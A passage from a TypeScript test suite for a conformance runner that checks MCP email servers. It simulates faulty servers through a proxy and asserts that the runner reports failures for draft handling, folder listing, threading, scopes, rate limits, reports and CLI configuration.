    expect(run.check("behaviour.undo-window")?.details?.message).toMatch(
      /^a retry with the same idempotency_key answered/,
    );
  });

  it("a server that ignores the undo window: the key's sends go out at once", async () => {
    const run = await runBroken(() => undefined, undefined, {
      extraArgs: UNDO_ONLY(),
      rewriteHeaders: sentWithFullKey(undoSubject),
    });
    expect(run.failedIds).toEqual(["behaviour.undo-window"]);
    expect(run.check("behaviour.undo-window")?.details?.message).toContain(
      'answered delivery_status "accepted", not scheduled',
    );
  });

  it("list_folders giving a folder id list_inbox refuses", async () => {
    const run = await runBroken(
      rewriteContent("list_folders", (content) => {
        const folders = content.folders as unknown[];
        folders.push({ id: "Archive/2026", name: "Archive/2026", kind: "other", total: 0, unread: 0 });
        return true;
      }),
      undefined,
      { extraArgs: READ_TOOLS_11 },
    );
    expect(run.failedIds).toEqual(["behaviour.list-folders.ids-list"]);
    expect(run.check("behaviour.list-folders.ids-list")?.details?.message).toMatch(
      /^list_inbox refuses folder "Archive\/2026" that list_folders gives: JSON-RPC error -32602/,
    );
  });

  it("list_folders giving INBOX another id", async () => {
    const run = await runBroken(
      rewriteContent("list_folders", (content) => {
        const inbox = (content.folders as { id: string }[]).find((f) => f.id === "INBOX");
        if (inbox !== undefined) inbox.id = "Inbox";
        return inbox !== undefined;
      }),
      undefined,
      { extraArgs: READ_TOOLS_11 },
    );
    expect(run.failedIds).toEqual(["behaviour.list-folders", "behaviour.list-folders.ids-list"]);
    expect(run.check("behaviour.list-folders")?.details?.message).toContain('the INBOX folder has the id "Inbox"');
  });

  it("list_folders counting more unread messages than the folder has", async () => {
    const run = await runBroken(
      rewriteContent("list_folders", (content) => {
        const [first] = content.folders as { unread: number | null; total: number | null }[];
        if (first === undefined) return false;
        first.total = 1;
        first.unread = 2;
        return true;
      }),
      undefined,
      { extraArgs: READ_TOOLS_11 },
    );
    // INBOX's total of 1 also disagrees with list_inbox's.
    expect(run.failedIds).toEqual(["behaviour.list-folders", "behaviour.list-folders.ids-list"]);
    expect(run.check("behaviour.list-folders")?.details?.message).toContain("has 2 unread of 1 messages");
  });

  it("get_thread newest first", async () => {
    const run = await runBroken(
      rewriteContent("get_thread", (content) => {
        (content.messages as unknown[]).reverse();
        return (content.messages as unknown[]).length > 1;
      }),
      undefined,
      { extraArgs: READ_TOOLS_11 },
    );
    expect(run.failedIds).toEqual(["behaviour.get-thread"]);
    expect(run.check("behaviour.get-thread")?.details?.message).toContain("not oldest first");
  });

  it("get_thread that leaves messages out without saying so", async () => {
    const run = await runBroken(
      rewriteContent("get_thread", (content) => {
        (content.messages as unknown[]).shift();
        return true;
      }),
      undefined,
      { extraArgs: READ_TOOLS_11 },
    );
    expect(run.failedIds).toEqual(["behaviour.get-thread"]);
    expect(run.check("behaviour.get-thread")?.details?.message).toMatch(/truncated is false with \d+ of \d+ messages/);
  });

  it("get_thread answering an unknown thread id with an empty success", async () => {
    const run = await runBroken(
      (exchange) => {
        const result = toolResultOf(exchange);
        const threadId = argumentsOf(exchange.request)?.thread_id;
        if (!isToolCall(exchange, "get_thread") || result?.errorCode !== "thread_not_found") return undefined;
        const empty = { thread_id: threadId, messages: [], message_count: 1, truncated: true };
        (exchange.body as { result: unknown }).result = {
          content: [{ type: "text", text: JSON.stringify(empty) }],
          structuredContent: empty,
        };
        return exchange;
      },
      undefined,
      { extraArgs: READ_TOOLS_11 },
    );
    expect(run.failedIds).toEqual(["behaviour.get-thread.unknown"]);
    expect(run.check("behaviour.get-thread.unknown")?.details?.message).toMatch(
      /^made-up thread \S+: expected thread_not_found, got a success/,
    );
  });

  it("get_attachment with truncated data", async () => {
    const run = await runBroken(
      rewriteContent("get_attachment", (content) => {
        const bytes = Buffer.from(content.data as string, "base64");
        content.data = bytes.subarray(0, Math.floor(bytes.length / 2)).toString("base64");
        return true;
      }),
      undefined,
      { extraArgs: READ_TOOLS_11 },
    );
    expect(run.failedIds).toEqual(["behaviour.get-attachment"]);
    expect(run.check("behaviour.get-attachment")?.details?.message).toMatch(/data decodes to \d+ bytes, size_bytes is/);
  });

  it("get_attachment that ignores message_id: another message's attachment of the same id", async () => {
    // The server answers every get_attachment from the first message it was asked about.
    let first: unknown;
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (request?.params?.name !== "get_attachment" || args === undefined) return undefined;
        first ??= args.message_id;
        args.message_id = first;
        return request;
      },
      { extraArgs: READ_TOOLS_11 },
    );
    expect(run.failedIds).toEqual(["behaviour.get-attachment.unknown"]);
    expect(run.check("behaviour.get-attachment.unknown")?.details?.message).toMatch(
      /^attachment \S+ \(of message \S+\) asked of message \S+/,
    );
  });

  /** The draft tools, judged by their own behaviour checks and nothing else; drafting needs --allow-send. */
  const DRAFTS = () => [...sendArgs(), "--only", "behaviour.draft"];

  it("create_draft answering a cc name of the wrong type: shrinking the rare failing input stops after SHRINK_TRIES tries", async () => {
    let creates = 0;
    const run = await runBroken(
      (exchange) => {
        if (!isToolCall(exchange, "create_draft")) return undefined;
        creates++;
        const cc = (toolResultOf(exchange)?.structuredContent as { cc?: { name: unknown }[] } | undefined)?.cc;
        if (cc === undefined || cc.length === 0) return undefined;
        for (const each of cc) each.name = 12345;
        return exchange;
      },
      undefined,
      { extraArgs: [...sendArgs(), "--only", "inputs.positive.create_draft", "--runs", "20"] },
    );
    expect(run.failedIds).toEqual(["inputs.positive.create_draft"]);
    expect(run.check("inputs.positive.create_draft")?.details?.message).toMatch(
      new RegExp(`structuredContent breaks the output schema: .*cc.*shrinking stopped after ${SHRINK_TRIES} tries`),
    );
    // One create_draft probing the draft scope, one per run up to the failing one, then one per try.
    const runs = (run.check("inputs.positive.create_draft")?.details as { runs?: number } | undefined)?.runs;
    expect(runs).toBeGreaterThan(0);
    expect(creates).toBe(1 + (runs ?? 0) + SHRINK_TRIES);
  });

  it("update_draft that drops the fields it is not given", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (request?.params?.name !== "update_draft" || args === undefined) return undefined;
        args.body = "";
        return request;
      },
      { extraArgs: DRAFTS() },
    );
    expect(run.failedIds).toEqual(["behaviour.draft.create-update"]);
    expect(run.check("behaviour.draft.create-update")?.details?.message).toBe(
      "update_draft given a subject only lost the draft's body",
    );
  });

  it("delete_draft answering success for a draft that is not there", async () => {
    const run = await runBroken(
      (exchange) => {
        const result = toolResultOf(exchange);
        if (!isToolCall(exchange, "delete_draft") || result?.errorCode !== "draft_not_found") return undefined;
        const draftId = argumentsOf(exchange.request)?.draft_id;
        const content = { draft_id: draftId, deleted: true };
        for (const key of Object.keys(result)) delete result[key];
        Object.assign(result, {
          content: [{ type: "text", text: JSON.stringify(content) }],
          structuredContent: content,
        });
        return exchange;
      },
      undefined,
      { extraArgs: DRAFTS() },
    );
    expect(run.failedIds).toEqual(["behaviour.draft.delete"]);
    expect(run.check("behaviour.draft.delete")?.details?.message).toMatch(
      /^a second delete_draft answered .*not draft_not_found$/u,
    );
  });

  it("send_draft that sends a draft without recipients to the inbox's own address", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (request?.params?.name !== "send_draft" || args === undefined) return undefined;
        // Stands for a server that sends whatever the draft holds: the call never reaches send_draft's refusal.
        request.params.name = "send_email";
        request.params.arguments = {
          inbox_id: args.inbox_id,
          to: [server.siblingInbox.addresses[0]],
          subject: "x",
          body: "x",
        };
        return request;
      },
      { extraArgs: DRAFTS() },
    );
    expect(run.failedIds).toEqual(["behaviour.draft.send"]);
    expect(run.check("behaviour.draft.send")?.details?.message).toMatch(
      /^send_draft of a draft without recipients answered /u,
    );
  });

  /** list_inbox without limit answering 19 messages and a next page: a default of 19. */
  const defaultLimitOf19: Mangle = (exchange) => {
    const content = toolResultOf(exchange)?.structuredContent as { messages?: unknown[] } | undefined;
    const args = argumentsOf(exchange.request);
    if (!isToolCall(exchange, "list_inbox") || args?.limit !== undefined || content?.messages === undefined)
      return undefined;
    content.messages = content.messages.slice(0, 19);
    (content as Record<string, unknown>).next_offset = 19;
    return exchange;
  };

  it("a default limit of 19 on an inbox of 19: the runner sends itself two more and sees it", async () => {
    const ownInbox = ["--allow-send", "--send-to", server.inbox.addresses[0] ?? "", "--send-to-inbox", server.inbox.id];
    const run = await runBroken(defaultLimitOf19, undefined, {
      extraArgs: [...ownInbox, "--only", "behaviour.default-limit"],
    });
    expect(run.failedIds).toEqual(["behaviour.default-limit"]);
    expect(run.check("behaviour.default-limit")?.details?.message).toBe(
      "without limit, list_inbox returned 19 of the 21 messages in INBOX; the default is 20",
    );
  });

  it("a default limit of 19, with --send-to another inbox: the runner judges the default there", async () => {
    const run = await runBroken(defaultLimitOf19, undefined, {
      extraArgs: [...sendArgs(), "--only", "behaviour.default-limit"],
    });
    expect(run.failedIds).toEqual(["behaviour.default-limit"]);
    expect(run.check("behaviour.default-limit")?.details?.message).toBe(
      "without limit, list_inbox returned 19 of the 21 messages in --send-to-inbox; the default is 20",
    );
  });

  it("mark_as_read ignored", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (request?.params?.name !== "read_email" || args?.mark_as_read !== true) return undefined;
        args.mark_as_read = false;
        return request;
      },
    );
    expect(run.failedIds).toEqual(["behaviour.mark-as-read"]);
    expect(run.check("behaviour.mark-as-read")?.details?.message).toBe(
      "read_email with mark_as_read true reports the message as still unread",
    );
  });

  it("reading marks read without mark_as_read", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (request?.params?.name !== "read_email" || args === undefined || args.mark_as_read === true)
          return undefined;
        args.mark_as_read = true;
        return request;
      },
    );
    expect(run.failedIds).toContain("behaviour.read-keeps-unread");
    expect(run.check("behaviour.read-keeps-unread")?.details?.message).toBe(
      "read_email without mark_as_read reports the message as read",
    );
  });

  it("oldest first", async () => {
    const run = await runBroken((exchange) => {
      const content = toolResultOf(exchange)?.structuredContent as { messages?: unknown[] } | undefined;
      if (!isToolCall(exchange, "list_inbox") || !Array.isArray(content?.messages)) return undefined;
      content.messages.reverse();
      return exchange;
    });
    expect(run.failedIds).toContain("behaviour.newest-first");
    expect(run.failedIds.every((id) => id.startsWith("behaviour."))).toBe(true);
  });

  it("scopes not enforced: a key without the scope is served", async () => {
    const run = await runBroken((exchange) => {
      const result = toolResultOf(exchange);
      if (result?.errorCode !== "scope_denied") return undefined;
      const page = { messages: [], offset: 0, limit: 1, next_offset: null, total: 0, total_is_estimate: false };
      (exchange.body as { result: unknown }).result = {
        content: [{ type: "text", text: JSON.stringify(page) }],
        structuredContent: page,
      };
      return exchange;
    });
    expect(run.failedIds).toEqual([
      "auth.scope.send_email",
      "auth.scope.reply_to_email",
      "auth.scope.create_draft",
      "auth.scope.update_draft",
      "auth.scope.delete_draft",
      "auth.scope.send_draft",
      "auth.scope.get_send_status",
      "auth.send-only-scope.list_inbox",
      "auth.send-only-scope.read_email",
      "auth.send-only-scope.search_emails",
      "auth.send-only-scope.list_folders",
      "auth.send-only-scope.get_thread",
      "auth.send-only-scope.get_attachment",
      // The page it serves instead is no send_email or read_email result.
      "behaviour.outputs-valid",
    ]);
  });

  it("a batch accepted under a revision that forbids batches", async () => {
    const run = await runBroken(() => undefined, undefined, {
      rewriteHeaders: (headers, body) => {
        if (Array.isArray(body)) delete headers["mcp-protocol-version"];
      },
    });
    expect(run.failedIds).toEqual(["protocol.batch.2025-11-25", "protocol.batch.2025-06-18"]);
  });

  it("no request bounds: a body over the limit, a batch over the limit and JSON nested too deep are all answered", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        // The proxy forwards what the server would have seen had it no bounds: the padding dropped,
        // the batch cut to what it accepts, the deep values gone.
        const parsed = request as unknown;
        if (Array.isArray(parsed)) return parsed.length > 20 ? parsed.slice(0, 20) : undefined;
        const message = parsed as { id?: unknown; params?: { _meta?: unknown } } | undefined;
        if (message?.id === "bounds-ping") return message;
        if (message?.params?._meta !== undefined) return { ...message, params: {} };
        const args = argumentsOf(request);
        if (Array.isArray(args?.folder))
          return { ...request, params: { ...request?.params, arguments: { ...args, folder: "INBOX" } } };
        return undefined;
      },
    );
    expect(run.failedIds).toEqual([
      "protocol.body-size.over-limit",
      "protocol.batch-length.over-limit.2025-03-26",
      "protocol.json-depth.arguments",
      "protocol.json-depth.envelope",
    ]);
  });

  it("a foreign Origin allowed", async () => {
    const run = await runBroken(() => undefined, undefined, {
      rewriteHeaders: (headers) => void delete headers.origin,
    });
    expect(run.failedIds).toEqual(["protocol.foreign-origin"]);
  });

  it("attachment_too_large counting base64 characters instead of decoded bytes", async () => {
    const run = await runBroken(
      (exchange) => {
        const result = toolResultOf(exchange);
        if (result?.errorCode !== "attachment_too_large" || typeof result.totalBytes !== "number") return undefined;
        result.totalBytes = Math.ceil(result.totalBytes / 3) * 4;
        return exchange;
      },
      undefined,
      { extraArgs: sendArgs() },
    );
    expect(run.failedIds).toEqual(["behaviour.send.attachment-too-large"]);
  });

  it("replies that lose In-Reply-To", async () => {
    const run = await runBroken(
      (exchange) => {
        const content = toolResultOf(exchange)?.structuredContent as { in_reply_to?: unknown } | undefined;
        if (!isToolCall(exchange, "read_email") || typeof content?.in_reply_to !== "string") return undefined;
        content.in_reply_to = null;
        return exchange;
      },
      undefined,
      { extraArgs: sendArgs() },
    );
    expect(run.failedIds).toEqual(["behaviour.send.reply-threads"]);
    expect(run.check("behaviour.send.reply-threads")?.details?.message).toMatch(
      /^the reply's SENT copy: in_reply_to is null/,
    );
  });

  it("a body-word search that matches subjects only", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (
          request?.params?.name !== "search_emails" ||
          typeof args?.query !== "string" ||
          !/^[\p{L}\p{N}]{1,50}$/u.test(args.query)
        )
          return undefined;
        args.query = `subject:${args.query}`;
        return request;
      },
    );
    expect(run.failedIds).toEqual(["behaviour.search.body-word"]);
    expect(run.check("behaviour.search.body-word")?.details?.message).toMatch(/did not find message/);
  });

  it("after: off by one day", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        const match = typeof args?.query === "string" ? /^after:(\d{4}-\d{2}-\d{2})$/.exec(args.query) : null;
        if (args === undefined || match === null) return undefined;
        args.query = `after:${new Date(Date.parse(match[1] ?? "") - 86_400_000).toISOString().slice(0, 10)}`;
        return request;
      },
    );
    expect(run.failedIds).toEqual(["behaviour.search.after"]);
  });
});

it("an inbox that lists no message: the checks that need one are skipped, naming why, and nothing fails", async () => {
  const run = await runBroken((exchange) => {
    const content = toolResultOf(exchange)?.structuredContent as
      | {
          messages?: unknown[];
          next_offset?: unknown;
          total?: unknown;
          folders?: { total: unknown; unread: unknown }[];
        }
      | undefined;
    // Its folders are empty too.
    if (Array.isArray(content?.folders)) for (const folder of content.folders) [folder.total, folder.unread] = [0, 0];
    else if (!Array.isArray(content?.messages)) return undefined;
    else {
      content.messages = [];
      content.next_offset = null;
      if (typeof content.total === "number") content.total = 0;
    }
    const result = toolResultOf(exchange) as { content: { text: string }[] };
    result.content = [{ type: "text", text: JSON.stringify(content) } as never];
    return exchange;
  });
  expect(run.failedIds).toEqual([]);
  expect(run.exitCode).toBe(0);
  expect(run.check("behaviour.listed-id-reads")).toMatchObject({
    status: "skipped",
    details: {
      reason: expect.stringMatching(
        /^needs a message in INBOX, found none \(INBOX has 0 messages; with --allow-send --send-to set to the inbox's own address/,
      ),
    },
  });
  expect(run.check("inputs.positive.read_email")).toMatchObject({
    status: "skipped",
    details: { reason: expect.stringContaining("the inbox lists no message") },
  });
  expect(run.check("inputs.case.read_email.include_html.type.string")).toMatchObject({
    status: "skipped",
    details: { reason: "needs a message id, and the inbox lists no message" },
  });
  expect(run.check("behaviour.search.from")?.status).toBe("skipped");
  expect(run.check("behaviour.get-thread")).toMatchObject({
    status: "skipped",
    details: { reason: expect.stringMatching(/^needs a message with a thread_id, and the inbox lists none/) },
  });
  expect(run.check("behaviour.get-attachment")).toMatchObject({
    status: "skipped",
    details: { reason: expect.stringMatching(/^needs a message with an attachment/) },
  });
  expect(run.check("inputs.positive.get_thread")?.status).toBe("skipped");
});

describe("--max-calls", () => {
  it("stops at the budget: property checks keep the runs made before it, later checks are skipped saying why, nothing fails", async () => {
    const run = await runRunner([
      ...baseArgs(),
      "--only",
      "inputs.positive,behaviour",
      "--runs",
      "50",
      "--max-calls",
      "60",
    ]);
    expect(run.failedIds).toEqual([]);
    expect(run.exitCode).toBe(0);
    const skippedForBudget = (run.json?.checks ?? []).filter(
      (c) =>
        c.status === "skipped" && JSON.stringify(c.details).includes("--max-calls budget of 60 tools/call was spent"),
    );
    expect(skippedForBudget.length).toBeGreaterThan(0);
    expect(run.stdout).toMatch(/runs per property, 60 tools\/call\)/u);
  });

  it("refuses a budget that is not a whole number of at least 1", async () => {
    const run = await runRunner([...baseArgs(), "--max-calls", "0"]);
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toMatch(/--max-calls 0 is not an integer of at least 1/u);
  });
});

it("an inbox with almost no mail: with sends allowed to its own address, the runner sends itself the messages it needs", async () => {
  const address = "conformance-empty@sandbox.mcpemails.test";
  const withEmpty = await startTestServer({
    rateWindows: UNLIMITED as never,
    inboxes: [{ kind: "sandbox", mode: "test", addresses: [address], secret: null }],
  });
  try {
    const empty = withEmpty.extraInboxes[0]?.id ?? "";
    const run = await runRunner([
      "--url",
      withEmpty.url,
      "--token",
      withEmpty.keys.full,
      "--inbox",
      empty,
      "--allow-send",
      "--send-to",
      address,
      "--only",
      "behaviour",
      "--seed",
      "1",
    ]);
    expect(run.failedIds).toEqual([]);
    for (const id of [
      "behaviour.newest-first",
      "behaviour.pages-concatenate",
      "behaviour.unread-only",
      "behaviour.search.has-attachment",
      "behaviour.mark-as-read",
    ])
      expect(run.check(id)?.status, id).toBe("passed");
    // limit 100: behaviour.default-limit sends the inbox a further 18, newer than these three.
    const listed = (
      await post(withEmpty, toolCall("list_inbox", { inbox_id: empty, limit: 100 }), { revision: "2025-11-25" })
    ).json as { result: { structuredContent: { messages: { subject: string }[] } } };
    const { messages } = listed.result.structuredContent;
    expect(messages.filter((m) => m.subject.startsWith("MCPEmails conformance test data"))).toHaveLength(3);
  } finally {
    await withEmpty.close();
  }
});

describe("--slow: rate windows", () => {
  const TWO_SECOND_WINDOW = [{ name: "minute", seconds: 2, limit: 5 }] as const;
  // Long enough that retryAfter is at least 2 s however slowly the calls go, so the proxy can shorten it.
  const FIVE_SECOND_WINDOW = [{ name: "minute", seconds: 5, limit: 5 }] as const;

  it("waits out rate_limit_exceeded in any check, and the verdict line says how long it waited", async () => {
    const limited = await startTestServer({ rateWindows: TWO_SECOND_WINDOW as never });
    try {
      const run = await runRunner([
        ...["--url", limited.url, "--token", limited.keys.full, "--inbox", limited.inbox.id],
        ...["--only", "behaviour.newest-first,behaviour.limit-respected,behaviour.pages-concatenate"],
      ]);
      expect(run.failedIds).toEqual([]);
      expect(run.stdout).toMatch(/tools\/call, \d+ s waiting out rate limits\)$/mu);
    } finally {
      await limited.close();
    }
  });

  it("drives calls until rate_limit_exceeded and succeeds once retryAfter has passed", async () => {
    const limited = await startTestServer({ rateWindows: TWO_SECOND_WINDOW as never });
    try {
      const run = await runRunner([
        "--url",
        limited.url,
        "--token",
        limited.keys.full,
        "--inbox",
        limited.inbox.id,
        "--slow",
        "--only",
        "behaviour.rate-limit",
      ]);
      expect(run.check("behaviour.rate-limit")).toMatchObject({
        status: "passed",
        details: expect.stringMatching(/^limited after \d+ calls; retryAfter [12] s was enough$/),
      });
    } finally {
      await limited.close();
    }
  });

  it("fails a server whose retryAfter is too short to wait out the window", async () => {
    const limited = await startTestServer({ rateWindows: FIVE_SECOND_WINDOW as never });
    const proxy = await startManglingProxy(limited.url, (exchange) => {
      const result = toolResultOf(exchange);
      if (result?.errorCode !== "rate_limit_exceeded" || typeof result.retryAfter !== "number" || result.retryAfter < 2)
        return undefined;
      result.retryAfter -= 1;
      return exchange;
    });
    try {
      const run = await runRunner([
        "--url",
        proxy.url,
        "--token",
        limited.keys.full,
        "--inbox",
        limited.inbox.id,
        "--slow",
        "--only",
        "behaviour.rate-limit",
      ]);
      expect(run.failedIds).toEqual(["behaviour.rate-limit"]);
      expect(run.check("behaviour.rate-limit")?.details?.message).toMatch(
        /^the call \d s later \(retryAfter\) was refused: error result rate_limit_exceeded/,
      );
    } finally {
      await proxy.close();
      await limited.close();
    }
  });

  it("is skipped, naming --slow, without it", async () => {
    const run = await runRunner([...baseArgs(), "--only", "behaviour.rate-limit"]);
    expect(run.check("behaviour.rate-limit")).toMatchObject({
      status: "skipped",
      details: { reason: "takes minutes: needs --slow" },
    });
  });
});

describe("--baseline and --report html", () => {
  it("a baselined failure does not fail the run; a baselined check that passes fails as stale", async () => {
    const dir = mkdtempSync(join(tmpdir(), "conformance-baseline-"));
    const baseline = join(dir, "baseline.txt");
    writeFileSync(baseline, "# known failures\nprotocol.foreign-origin\nprotocol.ping\n");
    const proxy = await startManglingProxy(
      server.url,
      () => undefined,
      undefined,
      (headers) => void delete headers.origin,
    );
    try {
      const run = await runRunner([...baseArgs(proxy.url), "--only", "protocol", "--baseline", baseline]);
      expect(run.exitCode).toBe(1);
      expect(run.failedIds).toEqual(["protocol.ping"]);
      expect(run.check("protocol.ping")?.details?.message).toMatch(/^stale baseline entry/);
      expect(run.check("protocol.foreign-origin")).toMatchObject({
        status: "skipped",
        details: { reason: expect.stringMatching(/^expected failure \(--baseline\): expected HTTP 403/) },
      });
      writeFileSync(baseline, JSON.stringify(["protocol.foreign-origin"]));
      expect((await runRunner([...baseArgs(proxy.url), "--only", "protocol", "--baseline", baseline])).exitCode).toBe(
        0,
      );
    } finally {
      await proxy.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("writes one self-contained HTML file with the table by stage and each failure with its request, response, seed and curl", async () => {
    const dir = mkdtempSync(join(tmpdir(), "conformance-html-"));
    const html = join(dir, "report.html");
    const proxy = await startManglingProxy(
      server.url,
      () => undefined,
      undefined,
      (headers) => void delete headers.origin,
    );
    try {
      await runRunner([...baseArgs(proxy.url), "--only", "protocol", "--report", `html=${html}`]);
      const page = readFileSync(html, "utf8");
      expect(page).toMatch(/^<!doctype html>/);
      expect(page).not.toMatch(/<script|<link|src=/);
      expect(page).toMatch(/<tr><td>protocol<\/td><td>21<\/td><td class="bad">1<\/td><td>0<\/td>/);
      expect(page).toContain('<h3 id="protocol.foreign-origin">protocol.foreign-origin</h3>');
      // The rule it breaks, its section of the reference, and a link to the failure that reproduces it.
      expect(page).toMatch(/<h2>Rules broken \(1\)<\/h2>/);
      expect(page).toContain("generated/docs/REFERENCE.md#protocol-error-transport_error");
      expect(page).toContain('<a href="#protocol.foreign-origin">protocol.foreign-origin</a>');
      expect(page).toContain("seed 42");
      expect(page).toContain("<h4>request</h4>");
      expect(page).toContain("<h4>response</h4>");
      expect(page).toMatch(/<h4>reproduce<\/h4><pre>curl -sS -X POST/);
      expect(page).not.toContain(server.keys.full);
    } finally {
      await proxy.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("bad configuration or an unreachable server is exit 2, before any check runs", () => {
  it.each([
    ["no --url", ["--token", "k", "--inbox", "00000000-0000-0000-0000-000000000000"], /--url is required/],
    [
      "an --inbox that is not a UUID",
      ["--url", "http://127.0.0.1:1/mcp", "--token", "k", "--inbox", "inbox-1"],
      /--inbox inbox-1 is not a UUID/,
    ],
    [
      "--allow-send without --send-to",
      [
        "--url",
        "http://127.0.0.1:1/mcp",
        "--token",
        "k",
        "--inbox",
        "00000000-0000-0000-0000-000000000000",
        "--allow-send",
      ],
      /needs --send-to/,
    ],
    ["an unknown option", ["--url", "http://127.0.0.1:1/mcp", "--frobnicate"], /unknown option --frobnicate/],
    [
      "--send-to-inbox without --send-to",
      [
        "--url",
        "http://127.0.0.1:1/mcp",
        "--token",
        "k",
        "--inbox",
        "00000000-0000-0000-0000-000000000000",
        "--send-to-inbox",
        "00000000-0000-0000-0000-000000000001",
      ],
      /--send-to-inbox names the inbox of --send-to/,
    ],
    [
      "a --foreign-inbox that is not a UUID",
      [
        "--url",
        "http://127.0.0.1:1/mcp",
        "--token",
        "k",
        "--inbox",
        "00000000-0000-0000-0000-000000000000",
        "--foreign-inbox",
        "theirs",
      ],
      /--foreign-inbox theirs is not a UUID/,
    ],
    [
      "an unknown report kind",
      [
        "--url",
        "http://127.0.0.1:1/mcp",
        "--token",
        "k",
        "--inbox",
        "00000000-0000-0000-0000-000000000000",
        "--report",
        "pdf=out.pdf",
      ],
      /expected json=FILE, junit=FILE or html=FILE/,
    ],
    [
      "a --baseline file that does not exist",
      [
        "--url",
        "http://127.0.0.1:1/mcp",
        "--token",
        "k",
        "--inbox",
        "00000000-0000-0000-0000-000000000000",
        "--baseline",
        "/nonexistent/baseline.txt",
      ],
      /--baseline \/nonexistent\/baseline.txt cannot be read/,
    ],
  ])("%s", async (_name, args, message) => {
    const run = await runRunner(args);
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toMatch(message);
    expect(run.stderr).toContain("Usage: mcpemails-conformance");
  });

  it("a server that is not listening", async () => {
    const closed = await startTestServer();
    const url = closed.url;
    await closed.close();
    const run = await runRunner(["--url", url, "--token", server.keys.full, "--inbox", server.inbox.id]);
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toMatch(/cannot be reached/);
    expect(run.json).toBeUndefined();
  });

  it("a token the server refuses", async () => {
    const run = await runRunner(["--url", server.url, "--token", revokedKey, "--inbox", server.inbox.id]);
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toMatch(/refused --token/);
  });

  it("an inbox the token cannot see", async () => {
    const run = await runRunner([
      "--url",
      server.url,
      "--token",
      server.keys.full,
      "--inbox",
      server.otherWorkspaceInbox.id,
    ]);
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toMatch(/is not an inbox --token can see/);
  });
});
